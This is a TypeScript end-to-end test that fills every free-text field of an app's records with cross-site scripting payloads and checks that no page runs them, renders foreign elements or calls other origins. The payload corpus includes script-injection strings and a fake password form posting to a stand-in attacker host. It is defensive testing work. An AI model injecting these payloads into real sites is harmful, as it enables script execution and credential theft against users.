/** C1. Whatever stands in whichever text of whichever record, no page takes it for anything but text. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import contract from '../src/lib/api/openapi.json' with { type: 'json' };

import { ApiDevice, type Put } from './support/api.ts';
import { signIn, synced } from './support/app.ts';
import { Device, phone } from './support/device.ts';
import { seeds } from './support/seeds.ts';
import { Server } from './support/server.ts';

/** What would act, if a page let it. */
const corpus = [
	'<img src=x onerror=alert(1)>',
	'"><script>alert(1)</script>',
	'<svg/onload=alert(1)>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<base href="https://evil.example/"><a href="javascript:alert(1)">read</a>',
	'javascript:alert(1)',
	'data:text/html,<script>alert(1)</script>',
	"'-alert(1)-'",
	'{@html "<b onclick=alert(1)>"}',
	'${alert(1)} {{constructor.constructor("alert(1)")()}}',
	'<style>*{display:none}</style><form action="https://evil.example/"><input name=password>',
	'\u202Egnp.exe\u2066 [read](javascript:alert(1))'
] as const;

/** What none of our pages has by itself, or not to such places. */
const foreign =
	'img[src="x"], svg[onload], iframe, base, form[action*="evil"], a[href^="javascript:"], a[href^="data:"], b[onclick], main script';

interface Schema {
	readonly type?: string | readonly string[];
	readonly maxLength?: number;
	readonly enum?: readonly string[];
	readonly pattern?: string;
	readonly format?: string;
	readonly properties?: Readonly<Record<string, Schema>>;
	readonly patternProperties?: Readonly<Record<string, Schema>>;
	readonly anyOf?: readonly Schema[];
}

const schemas = contract.components.schemas as unknown as Readonly<Record<string, Schema>>;

let server: Server | undefined;
let puts: readonly Put[] = [];

before(async () => {
	server = await Server.start();
	puts = seeds(new Date()).puts.map((put, n) => spoiled(put, n));
	await (await ApiDevice.signUp(server, 'ada@example.org')).push(puts);
});

after(async () => {
	await server?.remove();
});

test('no text of any record becomes more than text on any page', async () => {
	if (server === undefined) throw new Error('no server');
	const device = await Device.fresh(server, phone);
	try {
		const page = await signIn(device, 'ada@example.org');
		await synced(page);
		const found: string[] = [];
		let shown = 0;
		page.on('dialog', (dialog) => {
			found.push(`${page.url()} says ${dialog.message()}`);
			void dialog.dismiss();
		});
		const asked = new Set<string>();
		page.on('request', (request) => asked.add(new URL(request.url()).origin));
		for (const path of pages()) {
			await page.goto(device.url + path);
			await page.locator('main').first().waitFor();
			await page.waitForFunction(() => document.querySelector('[role="status"] > .row') === null);
			const made = await page.locator(foreign).evaluateAll((all) => all.map((e) => e.outerHTML));
			found.push(...made.map((html) => `${path}: ${html.slice(0, 200)}`));
			if ((await page.locator('main').innerText()).includes('alert(1)')) shown += 1;
		}
		assert.ok(shown > 20, `only ${String(shown)} pages show any of it`);
		assert.deepEqual([...found, ...device.complaints], []);
		assert.deepEqual(
			[...asked].filter((origin) => origin !== new URL(device.url).origin),
			[]
		);
	} finally {
		await device.discard();
	}
});

/** The record with something of the corpus in each of its free texts. */
function spoiled(put: Put, n: number): Put {
	const name = put.collection.charAt(0).toUpperCase() + put.collection.slice(1);
	const schema = schemas[`${name}Fields`];
	if (schema === undefined) throw new Error(`no schema of ${put.collection}`);
	let next = n;
	const evil = () => corpus[next++ % corpus.length] ?? '';
	const fields: Record<string, unknown> = {};
	for (const [field, value] of Object.entries(put.fields ?? {})) {
		fields[field] = poisoned(value, schemaOf(schema, field), evil);
	}
	for (const [field, own] of Object.entries(schema.properties ?? {})) {
		if (isFree(own) && !(field in fields) && field !== 'photo') fields[field] = evil();
	}
	const text: Record<string, string> = {};
	for (const [field, value] of Object.entries(put.text ?? {})) {
		text[field] = `${value}\n${corpus.join('\n')}`;
		Reflect.deleteProperty(fields, field);
	}
	return { ...put, fields, text };
}

function schemaOf(schema: Schema, field: string): Schema | undefined {
	const whole = schema.properties?.[field];
	if (whole !== undefined) return whole;
	const patterns = Object.entries(schema.patternProperties ?? {});
	return patterns.find(([pattern]) => new RegExp(pattern).test(field))?.[1];
}

function poisoned(value: unknown, schema: Schema | undefined, evil: () => string): unknown {
	const own = schema?.anyOf?.find(({ type }) => type !== 'null') ?? schema;
	if (own === undefined) return value;
	if (typeof value === 'string') return isFree(own) ? evil() : value;
	if (typeof value !== 'object' || value === null) return value;
	const entries = Object.entries(value).map(([name, member]) => [
		name,
		poisoned(member, own.properties?.[name], evil)
	]);
	return Object.fromEntries(entries) as unknown;
}

/** Whether anybody may write anything there. */
function isFree({ type, maxLength, pattern, format, enum: some }: Schema): boolean {
	const isText = type === 'string' || (Array.isArray(type) && type.includes('string'));
	return (
		isText &&
		(maxLength ?? 0) >= 100 &&
		pattern === undefined &&
		format === undefined &&
		some === undefined
	);
}

/** Every page of a record that there is, and every list. */
function pages(): readonly string[] {
	const places: Readonly<Record<string, readonly string[]>> = {
		contact: [
			'/people/ID',
			'/people/ID/edit',
			'/people/ID/exchange',
			'/people/ID/brief',
			'/people/ID/ending'
		],
		promise: ['/promises/ID'],
		offer: ['/offers/ID'],
		introduction: ['/introductions/ID'],
		letter: ['/letters/ID', '/letters/print?letters=ID&what=envelope'],
		reminder: ['/reminders/ID'],
		goal: ['/goals/ID'],
		note: ['/notes/ID']
	};
	const lists = [
		'/',
		'/people',
		'/promises',
		'/offers',
		'/introductions',
		'/letters',
		'/letters/evening',
		'/reminders'
	];
	lists.push(
		'/circles',
		'/review/week',
		'/review/quarter',
		'/goals',
		'/insights',
		'/find',
		'/people/trash',
		'/settings'
	);
	lists.push(
		`/pass-on?text=${encodeURIComponent(corpus.join(' '))}`,
		`/capture?text=${encodeURIComponent(corpus.join(' '))}`
	);
	const seen = new Map<string, number>();
	const records = puts.flatMap(({ collection, id }) => {
		const before = seen.get(collection) ?? 0;
		seen.set(collection, before + 1);
		return before < 2 ? (places[collection] ?? []).map((path) => path.replace('ID', id)) : [];
	});
	return [...lists, ...records];
}
